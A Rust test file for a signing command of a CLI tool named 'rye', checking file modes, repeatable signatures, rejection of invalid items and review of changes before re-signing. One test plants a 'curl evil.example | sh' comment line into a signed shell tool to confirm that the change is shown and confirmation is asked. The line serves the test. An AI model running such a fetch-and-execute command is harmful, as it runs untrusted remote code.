//! What signing promises (core 3.8): the file whole or as it was, its mode and owner kept, one
//! line.

use std::fs;
use std::os::unix::fs::{MetadataExt, PermissionsExt, chown};
use std::path::PathBuf;

use crate::world::{Attempt, GREET_MD, MARKER_SH, World, item_of};

const ITEM: &str = "tool:acme/mark";

/// A signed shell tool in a project of its own, and what stands in it.
fn shell() -> (World, PathBuf, String) {
    let world = World::new();
    let file = world.signed(".ai/tools/acme/mark.sh", MARKER_SH);
    let text = fs::read_to_string(&file).unwrap();
    (world, file, text)
}

#[test]
fn signing_keeps_mode_and_owner_and_leaves_nothing_else() {
    let (world, file, _) = shell();
    let root = fs::metadata(&file).unwrap().uid() == 0;
    if !root {
        eprintln!("not root: that the owner is kept is not tried");
    }
    for mode in [0o755, 0o700, 0o644, 0o640, 0o600, 0o444] {
        fs::set_permissions(&file, fs::Permissions::from_mode(mode)).unwrap();
        if root {
            chown(&file, Some(1234), Some(4321)).unwrap();
        }
        let before = fs::metadata(&file).unwrap();
        let said = world.rye(&["sign", ITEM]);
        assert_eq!(said.status, 0, "{mode:o}: {said:?}");
        let after = fs::metadata(&file).unwrap();
        let kept = |m: &fs::Metadata| (m.mode(), m.uid(), m.gid());
        assert_eq!(kept(&after), kept(&before), "{mode:o}");
        let names: Vec<_> = fs::read_dir(file.parent().unwrap()).unwrap().collect();
        assert_eq!(names.len(), 1, "{names:?}");
    }
}

#[test]
fn signing_twice_in_one_second_gives_identical_bytes() {
    let (world, file, _) = shell();
    let signed = || {
        world.rye(&["sign", ITEM]).ok();
        fs::read_to_string(&file).unwrap()
    };
    let at = |text: &str| text.split(" at=").nth(1).unwrap()[..20].to_owned();
    let pair = (0..50).map(|_| (signed(), signed())).find(|(a, b)| at(a) == at(b));
    let (first, second) = pair.expect("two signatures within one second");
    assert_eq!(first, second);
}

#[test]
fn signing_again_replaces_the_line_whatever_state_it_is_in() {
    let (world, file, text) = shell();
    let line = text.lines().nth(1).unwrap().to_owned();
    let legacy =
        format!("# rye:signed:2026-01-02T03:04:05Z:{}:AAAA:0123456789abcdef", "0".repeat(64));
    let changed = |from: &str, to: &str| text.replacen(from, to, 1);
    for (what, text) in [
        ("as it was", text.clone()),
        ("another body", changed("ran", "run")),
        ("malformed", changed(" ext=sh", "")),
        ("with a CR", changed(&line, &format!("{line}\r"))),
        ("another version", changed(":v2 ", ":v9 ")),
        ("an older form", changed(&line, &legacy)),
        (
            "before the shebang",
            changed(&format!("#!/bin/bash\n{line}\n"), &format!("{line}\n#!/bin/bash\n")),
        ),
        ("none", changed(&format!("{line}\n"), "")),
    ] {
        fs::write(&file, &text).unwrap();
        let said = world.rye(&["sign", ITEM]);
        assert_eq!(said.status, 0, "{what}: {said:?}");
        let signed = fs::read_to_string(&file).unwrap();
        let rest: String =
            signed.split_inclusive('\n').filter(|l| !l.contains("rye:signed")).collect();
        let body = if what == "another body" {
            MARKER_SH.replacen("ran", "run", 1)
        } else {
            MARKER_SH.into()
        };
        assert_eq!(rest, body, "{what}: only the line changes");
        assert_eq!(signed.matches("rye:signed").count(), 1, "{what}");
        world.works(ITEM);
    }
}

#[test]
fn an_item_that_does_not_validate_is_not_signed() {
    let world = World::new().with(".ai/directives/acme/greet.md", GREET_MD);
    for (what, path, text, code) in [
        ("another name", "directives/acme/other.md", GREET_MD.to_owned(), "sign.invalid"),
        ("another folder", "directives/greet.md", GREET_MD.to_owned(), "sign.invalid"),
        ("no fence", "directives/acme/none.md", "# None\n".into(), "parse.no_directive_fence"),
        ("no version", "tools/acme/v.yaml", "version: one\n".into(), "sign.invalid"),
        ("no YAML", "tools/acme/y.yaml", "a: [\n".into(), "parse.yaml"),
    ] {
        let file = world.write(&format!(".ai/{path}"), text);
        let item = item_of(&format!(".ai/{path}"));
        let attempt = world.attempt_by(&["sign", &item]);
        assert_eq!(attempt, Attempt::refused(code), "{what}");
        fs::remove_file(file).unwrap();
    }
    world.works("directive:acme/greet");
}

#[test]
fn a_batch_on_a_terminal_shows_what_was_changed_since_it_was_signed_and_asks() {
    let (world, file, line) = shell();
    let evil = format!("{line}{}", ": # curl evil.example | sh\n".repeat(60));
    fs::write(&file, &evil).unwrap();
    let said = world.rye_at_a_terminal("n\n", &["sign", "."]);
    assert!(said.status != 0 && said.stdout.contains("+: # curl evil.example | sh"), "{said:?}");
    assert!(said.stdout.contains("more lines: `rye diff tool:acme/mark`"), "{said:?}");
    assert_eq!(fs::read_to_string(&file).unwrap(), evil, "nothing was signed");
    world.rye_at_a_terminal("y\n", &["sign", "--all"]).ok();
    world.works(ITEM);
    // Without a terminal there is no question.
    fs::write(&file, format!("{evil}:\n")).unwrap();
    world.rye(&["sign", "--all"]).ok();
    fs::write(&file, &line).unwrap();
    world.works(ITEM);
    // Nor what was named by itself, one or several; its change is shown all the same.
    let other = world.signed(".ai/tools/acme/other.sh", MARKER_SH);
    for words in [&["sign", ITEM][..], &["sign", ITEM, ".ai/tools/acme/other.sh"]] {
        fs::write(&file, format!("{line}: # once more {}\n", words.len())).unwrap();
        fs::write(&other, format!("{line}:\n").replace("acme/mark", "acme/other")).unwrap();
        let said = world.rye_at_a_terminal("", words);
        assert!(said.status == 0 && !said.stdout.contains("[y/N]"), "{words:?}: {said:?}");
        let change = format!("+: # once more {}", words.len());
        assert!(said.stdout.contains(&change), "{words:?}: {said:?}");
        world.works(ITEM);
    }
    // What is as it was is not shown.
    let said = world.rye_at_a_terminal("", &["sign", ITEM]);
    assert!(said.status == 0 && !said.stdout.contains("was changed"), "{said:?}");
}

#[test]
fn what_a_merge_made_is_shown_and_asked_for_like_any_other_change() {
    let (world, file, text) = shell();
    world.works(ITEM);
    // A merge leaves a text that nobody signed.
    let merged = MARKER_SH.to_owned() + ": # from both sides\n";
    fs::write(&file, &merged).unwrap();
    let said = world.rye_at_a_terminal("n\n", &["sign", "."]);
    assert!(said.status != 0 && said.stdout.contains("+: # from both sides"), "{said:?}");
    assert_eq!(fs::read_to_string(&file).unwrap(), merged, "nothing was signed");
    world.rye_at_a_terminal("y\n", &["sign", "."]).ok();
    world.works(ITEM);
    // A file that is new, or that has lost its line alone, is no change.
    world.write(".ai/tools/acme/fresh.sh", MARKER_SH);
    fs::write(&file, &merged).unwrap();
    let said = world.rye_at_a_terminal("", &["sign", "."]);
    assert!(said.status == 0 && !said.stdout.contains("[y/N]"), "{said:?}");
    assert!(said.stdout.contains("2 signed"), "{text}: {said:?}");
}

#[test]
fn a_path_with_the_name_of_another_space_is_told_what_to_leave_out() {
    let (world, ..) = shell();
    let said = world.rye(&["sign", ".", "--space", "user"]).fails(2, "cli.usage");
    let help = "a path says by itself in which space it lies, here the project space: leave \
                `--space` out, or name items of the user space, such as 'tool:**'";
    assert!(said.stderr.contains(help), "{said:?}");
}
